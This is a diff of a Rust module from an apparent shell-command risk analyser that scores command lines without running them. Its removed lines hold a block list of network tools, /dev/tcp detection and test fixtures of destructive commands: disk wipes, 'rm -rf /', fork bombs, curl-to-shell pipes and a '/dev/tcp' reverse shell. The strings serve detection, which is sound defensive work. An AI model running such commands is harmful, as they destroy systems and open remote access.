@@ -1,409 +1,299 @@
 //! From a tree to findings. It never runs anything and knows nothing of this machine.
 
-use super::path;
-use super::rules::{self, Call};
+use std::ops::Range;
+use std::sync::Arc;
+
+use super::call::Call;
+use super::rules;
+use super::scope::Scope;
 use super::unwrap::{self, Inner};
+use super::verdict::{Effect, Finding, Policy};
 use crate::domain::{Risk, ShellKind};
-use crate::syntax::{self, Command, Redirect, RedirectKind, Tree, UNKNOWN, Word};
+use crate::syntax::{self, HOME, Part, Tree, UNKNOWN, Word};
 
 /// Most levels of commands inside the arguments of commands.
-const MAX_DEPTH: usize = 8;
+const MAX_DEPTH: usize = 10;
 
-/// Programs whose output comes from somewhere else.
-const DOWNLOADERS: [&str; 9] = ["curl", "wget", "nc", "ncat", "netcat", "socat", "aria2c", "ftp", "http"];
+/// Most commands that are judged for one line, those of functions each time they are called.
+const MAX_COMMANDS: usize = 2_000;
 
 /// Variables that hold the name of a program the user chose.
 const CHOSEN_PROGRAMS: [&str; 6] = ["$EDITOR", "$VISUAL", "$PAGER", "$SHELL", "$BROWSER", "$SUDO_EDITOR"];
 
-/// Something that the user should know before the command runs.
-#[derive(Debug, Clone, PartialEq)]
-pub(super) struct Finding {
-    /// The rule's name.
-    pub(super) rule: String,
-    /// How bad it is.
-    pub(super) risk: Risk,
-    /// Why, in plain words.
-    pub(super) reason: String,
+/// What was found out about a line so far.
+pub(super) struct Analysis<'p> {
+    pub(super) policy: &'p Policy,
+    pub(super) scope: Scope,
+    pub(super) findings: Vec<Finding>,
+    pub(super) effects: Vec<Effect>,
+    pub(super) programs: Vec<String>,
+    pub(super) output_steps: usize,
+    /// What the present findings are about.
+    pub(super) here: Range<usize>,
+    /// Set while a text is judged that stands inside a word: all findings are about that word.
+    fixed: Option<Range<usize>>,
+    commands: usize,
+}
+
+/// Where a command stands.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Around<'t> {
+    pub(super) tree: &'t Arc<Tree>,
+    /// Its index in the tree.
+    pub(super) index: usize,
+    /// How many commands it stands inside.
+    pub(super) depth: usize,
+    /// Whether it runs as root.
+    pub(super) root: bool,
+    /// Whether it reads what the command of the tree reads; a command inside `find -exec` does not.
+    pub(super) reads_input: bool,
+    /// The loop around it runs for every file or without end.
+    pub(super) repeated: bool,
 }
 
 /// Everything there is to say about a command line; nothing means that it only reads.
-pub(super) fn analyse(tree: &Tree) -> Vec<Finding> {
-    let mut analysis = Analysis { findings: Vec::new() };
-    analysis.tree(tree, 0, false);
-    analysis.findings
+pub(super) fn analyse<'p>(tree: Tree, policy: &'p Policy) -> Analysis<'p> {
+    let mut analysis = Analysis {
+        policy,
+        scope: Scope::default(),
+        findings: Vec::new(),
+        effects: Vec::new(),
+        programs: Vec::new(),
+        output_steps: 0,
+        here: 0..0,
+        fixed: None,
+        commands: 0,
+    };
+    analysis.tree(&Arc::new(tree), 0, false);
+    analysis
 }
 
-struct Analysis {
-    findings: Vec<Finding>,
-}
+impl Analysis<'_> {
+    pub(super) fn add(&mut self, rule: &str, risk: Risk, reason: impl Into<String>) {
+        self.add_safer(rule, risk, reason, None);
+    }
 
-impl Analysis {
-    fn add(&mut self, rule: &str, risk: Risk, reason: impl Into<String>) {
-        if risk > Risk::None {
-            self.findings.push(Finding { rule: rule.to_owned(), risk, reason: reason.into() });
+    pub(super) fn add_safer(&mut self, rule: &str, risk: Risk, reason: impl Into<String>, safer: Option<&str>) {
+        if risk == Risk::None || self.policy.rules.silences(rule) {
+            return;
+        }
+        let finding =
+            Finding { rule: rule.to_owned(), risk, span: self.here.clone(), reason: reason.into(), safer: safer.map(str::to_owned) };
+        if !self.findings.contains(&finding) {
+            self.findings.push(finding);
         }
     }
 
-    fn tree(&mut self, tree: &Tree, depth: usize, as_root: bool) {
+    /// Notes a finding about one word.
+    pub(super) fn add_at(&mut self, word: &Word, rule: &str, risk: Risk, reason: impl Into<String>) {
+        let outside = self.here.clone();
+        if self.fixed.is_none() && !word.span.is_empty() {
+            self.here = word.span.clone();
+        }
+        self.add(rule, risk, reason);
+        self.here = outside;
+    }
+
+    pub(super) fn tree(&mut self, tree: &Arc<Tree>, depth: usize, root: bool) {
         if tree.is_unclear() {
             self.add("partial", Risk::Medium, "understood only in part");
         }
-        for command in tree.commands() {
-            let nested_download = downloads(&tree.commands()[command.nested.clone()]);
-            let feeders = &tree.commands()[command.input.clone()];
-            for redirect in &command.redirects {
-                self.redirect(redirect, as_root);
+        self.range(tree, 0..tree.commands().len(), depth, root);
+    }
+
+    fn range(&mut self, tree: &Arc<Tree>, range: Range<usize>, depth: usize, root: bool) {
+        for index in range {
+            self.commands += 1;
+            if self.commands > MAX_COMMANDS {
+                return self.add("size", Risk::Medium, "too long to be understood as a whole");
             }
-            for assignment in &command.assignments {
-                if matches!(assignment.name.as_str(), "LD_PRELOAD" | "LD_LIBRARY_PATH" | "BASH_ENV" | "PROMPT_COMMAND" | "PATH") {
-                    self.add("loader-variable", Risk::Medium, "changes which code programs run");
-                } else if command.words.is_empty() {
-                    self.add("assignment", Risk::Low, "sets a variable");
-                }
-            }
-            if forks_itself(command, feeders) {
-                self.add("fork-bomb", Risk::Critical, "starts processes without end");
-            }
-            self.words(&command.words, &Surroundings { command, feeders, nested_download }, depth, as_root);
+            let around = Around { tree, index, depth, root, reads_input: true, repeated: false };
+            self.command(&around);
         }
     }
 
-    fn redirect(&mut self, redirect: &Redirect, as_root: bool) {
-        let writes = matches!(redirect.kind, RedirectKind::Truncate | RedirectKind::Append | RedirectKind::ReadWrite);
-        let target = redirect.target.shape.as_str();
-        if !writes || matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") {
-            return;
+    fn command(&mut self, around: &Around<'_>) {
+        let command = &around.tree.commands()[around.index];
+        self.here = self.fixed.clone().unwrap_or_else(|| span_of(command));
+        if let Some(name) = &command.function {
+            self.scope.define(name, around.tree, around.index);
         }
-        if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
-            self.add("network-redirect", Risk::High, "connects to the network");
-        } else if path::is_device(target) {
-            self.add("write-device", Risk::Critical, "writes over a disk");
-        } else if path::is_system(target) || path::is_personal_setup(target) {
-            let risk = if redirect.kind == RedirectKind::Truncate || as_root { Risk::High } else { Risk::Medium };
-            self.add("write-setup", risk, format!("writes to {target}"));
-        } else if redirect.kind == RedirectKind::Truncate {
-            self.add("overwrite", Risk::Low, format!("overwrites {}", named(target)));
-        } else {
-            self.add("append", Risk::Low, format!("writes to {}", named(target)));
+        if forks_itself(command, &around.tree.commands()[command.input.clone()]) {
+            self.add("fork-bomb", Risk::Critical, "starts processes without end");
+        }
+        let words = self.expand_all(around.tree, &command.words);
+        for redirect in &command.redirects {
+            self.redirect(redirect, &words, around);
+        }
+        for assignment in &command.assignments {
+            self.assignment(assignment, around, words.is_empty());
+        }
+        if !words.is_empty() || !command.words.is_empty() {
+            self.words(&words, around);
         }
     }
 
-    fn words(&mut self, words: &[Word], around: &Surroundings<'_>, depth: usize, as_root: bool) {
-        let Some(first) = words.first() else { return };
-        if depth > MAX_DEPTH {
+    /// Judges a program with its arguments, already expanded.
+    pub(super) fn words(&mut self, words: &[Word], around: &Around<'_>) {
+        if around.depth > MAX_DEPTH {
             return self.add("depth", Risk::Medium, "understood only in part");
         }
-        let Some(value) = first.value.as_deref().filter(|_| !first.glob) else {
-            let raw = first.raw.trim_matches('"');
-            return match raw {
-                raw if CHOSEN_PROGRAMS.contains(&raw) => self.add("chosen-program", Risk::Low, format!("runs {raw}")),
-                _ if first.shape.contains(UNKNOWN) && !first.raw.contains(['`', '(']) => {
-                    self.add("dynamic-name", Risk::Medium, "the program is known only when it runs")
-                }
-                // A home directory, `~/bin/tool`, names a program all the same.
-                _ if first.shape.starts_with(syntax::HOME) && !first.glob && !first.shape.contains(['{', UNKNOWN]) => {
-                    self.add("own-program", Risk::Low, "runs a program of your own")
-                }
-                _ => self.add("hidden-name", Risk::High, "hides the name of the program it runs"),
-            };
-        };
-        let name = value.trim_start_matches('=').rsplit('/').next().unwrap_or(value);
-        let call = Call::new(name, &words[1..]);
-        let wrapper = rules::wrapper(name);
-        let mut found = Analysis { findings: Vec::new() };
-        let inside = unwrap::inner(&call);
-        // A shell is as harmless as the text it runs, when that is known.
-        if inside.is_empty() || !(unwrap::is_shell(name) || name == "eval") {
-            found.base(&call);
+        // All of it expanded to nothing.
+        let Some(first) = words.first() else { return };
+        let Some(value) = first.value.as_deref().filter(|_| !first.glob) else { return self.hidden_name(first, around) };
+        if let Some(alias) = self.scope.aliased(value).filter(|_| around.depth < MAX_DEPTH).map(<[Word]>::to_vec) {
+            let replaced: Vec<Word> = alias.into_iter().chain(words[1..].iter().cloned()).collect();
+            return self.words(&replaced, &Around { depth: around.depth + 1, ..*around });
         }
-        found.program(&call, around, depth);
+        if let Some((tree, body)) = self.scope.function(value).filter(|_| around.depth < MAX_DEPTH) {
+            let inside = body.contains(&around.index) && Arc::ptr_eq(&tree, around.tree);
+            if !inside {
+                let outside = self.scope.set_positional(Some(words[1..].to_vec()));
+                let fixed = self.fixed.clone();
+                self.fixed.get_or_insert_with(|| self.here.clone());
+                self.range(&tree, body, around.depth + 1, around.root);
+                self.fixed = fixed;
+                self.scope.set_positional(outside);
+            }
+            return;
+        }
+        let name = value.trim_start_matches('=');
+        let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
+        let name = name.strip_suffix(".exe").unwrap_or(name);
+        self.call(&Call::new(name, &words[1..]), first, around);
+    }
+
+    fn call(&mut self, call: &Call<'_>, first: &Word, around: &Around<'_>) {
+        if let Some(program) = &first.value
+            && !self.programs.contains(program)
+        {
+            self.programs.push(program.clone());
+        }
+        let wrapper = rules::wrapper(call.name);
+        let inside = unwrap::inner(call, around.root);
+        // A shell is as harmless as the text it runs, when that is known.
+        let known_text = inside.iter().all(|inner| matches!(inner, Inner::Text(..))) && !inside.is_empty();
+        if !(known_text && (unwrap::is_shell(call.name) || call.name == "eval")) {
+            self.base(call, around);
+        }
+        self.program(call, around);
+        let root = around.root || wrapper.is_some_and(|wrapper| wrapper.root);
+        if root && wrapper.is_none_or(|wrapper| !wrapper.root) {
+            self.as_root(call);
+        }
         for inner in inside {
-            let as_root = as_root || wrapper.is_some_and(|wrapper| wrapper.root);
             match inner {
                 Inner::Words(words) => {
                     // Wrappers hand their input on; `find` and `xargs` do not.
-                    let feeders = if wrapper.is_some_and(|wrapper| !wrapper.appends) { around.feeders } else { &[] };
-                    found.words(&words, &Surroundings { feeders, ..*around }, depth + 1, as_root);
+                    let appends = wrapper.is_none_or(|wrapper| wrapper.appends);
+                    let words = if appends { self.with_input(call, words, around) } else { words };
+                    let reads_input = around.reads_input && !appends;
+                    self.words(&words, &Around { depth: around.depth + 1, root, reads_input, repeated: appends, ..*around });
                 }
-                Inner::Text(text) => found.text(&text, depth + 1, as_root),
-                Inner::UnknownText if around.nested_download => found.add("remote-code", Risk::High, "runs what it downloads"),
-                Inner::UnknownText => found.add("generated-code", Risk::Medium, "runs text that is known only when it runs"),
+                Inner::Text(text, word) => self.text(&text, &word, around.depth + 1, root),
+                Inner::UnknownText(word) => self.unknown_text(&word, around),
             }
         }
-        let needs_root = rules::base(&call).is_some_and(|base| base.root);
-        if as_root && !needs_root && wrapper.is_none() {
-            found.raise();
-        }
-        self.findings.append(&mut found.findings);
     }
 
-    fn base(&mut self, call: &Call<'_>) {
+    /// The base risk of a program, by the table of programs.
+    fn base(&mut self, call: &Call<'_>, around: &Around<'_>) {
         match rules::base(call) {
-            Some(base) => self.add("program", base.risk, base.reason.as_str()),
+            Some(base) => self.add("program", base.risk.0, base.reason.as_str()),
             None if rules::wrapper(call.name).is_some() => {}
-            None => self.add("unknown-program", Risk::Low, format!("runs {}, which is not known here", named(call.name))),
+            None => {
+                self.add("unknown-program", Risk::Low, format!("runs {}, which is not known here", named(call.name)));
+                self.suspected_wrapper(call, around);
+            }
         }
     }
 
-    /// What the program itself does with its arguments and its input.
-    fn program(&mut self, call: &Call<'_>, around: &Surroundings<'_>, depth: usize) {
-        for rule in rules::matching(call) {
-            self.add(&rule.id, rule.risk, rule.reason.as_str());
-        }
-        if call.name == "find" && call.has("-delete") {
-            let whole = call.operands.iter().any(|word| path::is_vital(&word.shape));
-            self.add("find-delete", if whole { Risk::High } else { Risk::Medium }, "deletes what it finds");
-        }
-        if !call.name.is_ascii() {
-            self.add("foreign-letters", Risk::Medium, "the program's name has letters that may look like others");
-        }
-        if matches!(call.name, "source" | ".") {
-            let fed = call.operands.is_empty() && !around.feeders.is_empty();
-            if around.nested_download || (fed && downloads(around.feeders)) {
-                self.add("remote-code", Risk::High, "runs what it downloads");
-            } else if fed || !around.command.nested.is_empty() {
-                self.add("generated-code", Risk::Medium, "runs the output of another program");
+    /// A program that nobody knows, with the name of a dangerous one among its arguments, may well run that.
+    fn suspected_wrapper(&mut self, call: &Call<'_>, around: &Around<'_>) {
+        for (index, word) in call.args.iter().enumerate().take(6) {
+            let Some(name) = word.value.as_deref().map(|value| value.rsplit('/').next().unwrap_or(value)) else { continue };
+            if !rules::is_destructive(name) || call.args.len() == index + 1 {
+                continue;
             }
-        }
-        if !unwrap::is_interpreter(call.name) {
+            let before = self.findings.len();
+            let inner = Call::new(name, &call.args[index + 1..]);
+            self.program(&inner, &Around { reads_input: false, ..*around });
+            // It is a guess, so only what would be serious counts.
+            let guessed = self.findings.split_off(before);
+            self.findings.extend(guessed.into_iter().filter(|finding| finding.risk >= Risk::High));
             return;
         }
-        if around.nested_download || (downloads(around.feeders) && reads_program(call)) {
-            self.add("remote-code", Risk::High, "runs what it downloads");
-        } else if !around.feeders.is_empty() && reads_program(call) {
-            self.add("generated-code", Risk::High, "runs the output of another program");
-        }
-        let here_texts = around.command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::HereText);
-        for redirect in here_texts.filter(|_| unwrap::is_shell(call.name)) {
-            match &redirect.target.value {
-                Some(text) => self.text(text, depth + 1, false),
-                None => self.add("generated-code", Risk::Medium, "runs text that is known only when it runs"),
-            }
+    }
+
+    /// As root even what only reads is worth a word.
+    fn as_root(&mut self, call: &Call<'_>) {
+        if !rules::base(call).is_some_and(|base| base.root) {
+            self.add("as-root", Risk::Low, "runs as root");
         }
     }
 
-    fn text(&mut self, text: &str, depth: usize, as_root: bool) {
+    fn hidden_name(&mut self, first: &Word, around: &Around<'_>) {
+        let raw = first.raw.trim_matches('"');
+        if CHOSEN_PROGRAMS.contains(&raw) {
+            return self.add("chosen-program", Risk::Low, format!("runs {raw}"));
+        }
+        // A home directory, `~/bin/tool`, names a program all the same.
+        if first.shape.starts_with(HOME) && !first.glob && !first.shape.contains(['{', UNKNOWN]) {
+            return self.add("own-program", Risk::Low, "runs a program of your own");
+        }
+        if self.downloads(around.tree, around.tree.commands()[around.index].nested.clone()) {
+            return self.add("remote-code", Risk::High, "runs what it downloads");
+        }
+        if first.shape.contains(UNKNOWN) && !first.raw.contains(['`', '(']) {
+            return self.add("dynamic-name", Risk::Medium, "the program is known only when it runs");
+        }
+        self.add("hidden-name", Risk::High, "hides the name of the program it runs");
+    }
+
+    /// Judges a text that a shell will run; `word` is where it stands.
+    pub(super) fn text(&mut self, text: &str, word: &Word, depth: usize, root: bool) {
         if depth > MAX_DEPTH {
             return self.add("depth", Risk::Medium, "understood only in part");
         }
-        match syntax::parse(text, ShellKind::Bash) {
-            Ok(tree) => self.tree(&tree, depth, as_root),
-            Err(_) => self.add("partial", Risk::Medium, "understood only in part"),
+        let shell = self.policy.shell;
+        let parsed = syntax::parse(text, ShellKind::Bash).or_else(|error| if shell == ShellKind::Bash { Err(error) } else { syntax::parse(text, shell) });
+        let Ok(tree) = parsed else { return self.add("partial", Risk::Medium, "understood only in part") };
+        let (here, fixed) = (self.here.clone(), self.fixed.clone());
+        if self.fixed.is_none() {
+            self.fixed = Some(if word.span.is_empty() { here.clone() } else { word.span.clone() });
         }
+        self.tree(&Arc::new(tree), depth, root);
+        (self.here, self.fixed) = (here, fixed);
     }
-
-    /// As root everything reaches further. Critical is kept for what destroys a system.
-    fn raise(&mut self) {
-        if self.findings.is_empty() {
-            return self.add("as-root", Risk::Low, "runs as root");
-        }
-        for finding in &mut self.findings {
-            finding.risk = match finding.risk {
-                Risk::Low => Risk::Medium,
-                Risk::Medium | Risk::High => Risk::High,
-                other => other,
-            };
-            if !finding.reason.ends_with("as root") {
-                finding.reason.push_str(" as root");
-            }
-        }
-    }
-}
-
-#[derive(Clone, Copy)]
-struct Surroundings<'a> {
-    command: &'a Command,
-    feeders: &'a [Command],
-    nested_download: bool,
-}
-
-fn downloads(commands: &[Command]) -> bool {
-    commands.iter().any(|command| {
-        command
-            .words
-            .iter()
-            .any(|word| word.value.as_deref().is_some_and(|value| DOWNLOADERS.contains(&value.rsplit('/').next().unwrap_or(value))))
-    })
-}
-
-/// Whether an interpreter takes its program from standard input.
-fn reads_program(call: &Call<'_>) -> bool {
-    let inline = ["-c", "-e", "-m", "-n", "-p", "-r"].iter().any(|flag| call.has(flag));
-    let from_input = call.has("-s") && unwrap::is_shell(call.name);
-    from_input || (!inline && call.operands.first().is_none_or(|word| matches!(word.shape.as_str(), "-" | "/dev/stdin")))
 }
 
 /// A function that calls itself through a pipe or in the background doubles with every call.
-fn forks_itself(command: &Command, feeders: &[Command]) -> bool {
-    let itself = |other: &Command| other.function.is_some() && other.name() == other.function.as_deref();
+fn forks_itself(command: &syntax::Command, feeders: &[syntax::Command]) -> bool {
+    let itself = |other: &syntax::Command| other.function.is_some() && other.name() == other.function.as_deref();
     itself(command) && (command.background || feeders.iter().any(itself))
 }
 
+/// Where a command stands, from its first word to its last.
+fn span_of(command: &syntax::Command) -> Range<usize> {
+    let words = command.words.iter().chain(command.redirects.iter().map(|redirect| &redirect.target));
+    let values = command.assignments.iter().flat_map(|assignment| assignment.value.iter().chain(&assignment.elements));
+    let spans = words.chain(values).map(|word| word.span.clone()).filter(|span| !span.is_empty());
+    spans.reduce(|all, next| all.start.min(next.start)..all.end.max(next.end)).unwrap_or(0..0)
+}
+
+/// Whether a word is nothing but the name of a file with the output of commands.
+pub(super) fn output_file(word: &Word) -> Option<Range<usize>> {
+    match word.parts.as_slice() {
+        [Part::OutputFile(commands)] => Some(commands.clone()),
+        _ => None,
+    }
+}
+
 /// A name for a line of prose.
-fn named(target: &str) -> String {
+pub(super) fn named(target: &str) -> String {
     match target.chars().count() {
         _ if target.contains(UNKNOWN) => "a file that is known only then".to_owned(),
         0..=40 => target.to_owned(),
         _ => format!("{}…", target.chars().take(39).collect::<String>()),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn risk(text: &str, shell: ShellKind) -> Risk {
-        let tree = syntax::parse(text, shell).unwrap_or_else(|error| panic!("{text}: {error}"));
-        analyse(&tree).into_iter().map(|finding| finding.risk).max().unwrap_or(Risk::None)
-    }
-
-    fn check(risk_expected: Risk, texts: &[&str]) {
-        for text in texts {
-            assert_eq!(risk(text, ShellKind::Bash), risk_expected, "{text}");
-        }
-    }
-
-    #[test]
-    fn reading_is_no_risk() {
-        check(
-            Risk::None,
-            &[
-                "ls -la",
-                "find . -name '*.rs' -size +1M | sort -rn | head",
-                "grep -r 'rm -rf /' .",
-                "git log --oneline",
-                "cat x 2>/dev/null",
-                "for f in *; do echo \"$f\"; done",
-                "df -h && du -sh ~",
-                "cat x | xargs grep y",
-                "echo 'rm -rf /'",
-                "sh -c 'ls'",
-                "env A=1 ls",
-                "find . -exec ls {} +",
-            ],
-        );
-    }
-
-    #[test]
-    fn writing_is_at_least_low() {
-        check(
-            Risk::Low,
-            &[
-                "ls > out",
-                "ls >> out",
-                "mkdir x",
-                "sort x -o y",
-                "frobnicate",
-                "sudo ls",
-                "x=1",
-                "ls | tee out",
-                "sed -i s/a/b/ x",
-                "./run.sh",
-                "$EDITOR x",
-            ],
-        );
-    }
-
-    #[test]
-    fn what_deserves_a_look_is_medium() {
-        check(
-            Risk::Medium,
-            &[
-                "rm notes.txt",
-                "kill 123",
-                "git push",
-                "systemctl restart nginx",
-                "sudo systemctl restart nginx",
-                "find . -name '*.pyc' -delete",
-                "find . -exec rm {} +",
-                "ls | xargs rm",
-                "$cmd x",
-                "eval \"$x\"",
-                "sudo mkdir /x",
-            ],
-        );
-        assert_eq!(risk("for f in *.txt; ls $f; end", ShellKind::Fish), Risk::Medium);
-        assert_eq!(risk("print -l =(ls)", ShellKind::Zsh), Risk::Medium);
-    }
-
-    #[test]
-    fn serious_damage_is_high() {
-        check(
-            Risk::High,
-            &[
-                "rm -r build",
-                "rm -rf ./*",
-                "sudo rm x",
-                "chmod -R 777 .",
-                "chown -R me .",
-                "kill -9 1",
-                "git reset --hard",
-                "git clean -fd",
-                "git push --force",
-                "curl x | sh",
-                "curl x | sudo bash",
-                "bash <(curl x)",
-                "sh -c \"$(curl x)\"",
-                "wget -qO- x | python3",
-                "echo x | sh",
-                "eval \"$(curl x)\"",
-                "find . -exec rm -rf {} +",
-                "ls | xargs -0 rm -rf",
-                "nice -n 5 rm -r x",
-                "env A=b rm -r x",
-                "timeout -k 1 5 rm -r x",
-                "sh -c 'rm -r x'",
-                "bash -lc 'rm -r x'",
-                "echo $(rm -r x)",
-                "cat <(rm -r x)",
-                "/bin/r? -rf x",
-                "{rm,-r,x}",
-                "r$(echo m) x",
-                "`echo rm` x",
-                "echo x > /etc/passwd",
-                "bash <<E\nrm -r x\nE",
-                "bash <<< 'rm -r x'",
-                "if true; then rm -r x; fi",
-                "ssh host rm -r x",
-                "sudo -u root -- rm -r x",
-                "\\rm -r x",
-                "'rm' -r x",
-                "/bin/rm -r x",
-                "echo x > ~/.bashrc",
-                "env -S 'rm -r x'",
-                "bash -i >& /dev/tcp/a/1 0>&1",
-            ],
-        );
-    }
-
-    #[test]
-    fn the_end_of_a_system_is_critical() {
-        check(
-            Risk::Critical,
-            &[
-                "rm -rf /",
-                "rm -rf ~",
-                "rm -rf \"$HOME\"",
-                "rm -rf /*",
-                "rm -r -f /etc",
-                "sudo rm -rf /usr/*",
-                "rm -rf ${HOME}/",
-                "rm --recursive --force /",
-                "rm -rf //",
-                "rm -rf /{etc,usr}",
-                "mkfs.ext4 /dev/sda1",
-                "dd if=/dev/zero of=/dev/sda",
-                "cat x > /dev/sda",
-                ":(){ :|:& };:",
-                "sh -c 'rm -rf /'",
-                "cd / && rm -rf /home",
-                "f() { f | f & }; f",
-                ":(){ :&:; };:",
-                "find / -exec rm -rf / \\;",
-                "chmod -R 777 /",
-                "true; (rm -rf ~/)",
-                "echo $(rm -rf /)",
-            ],
-        );
     }
 }
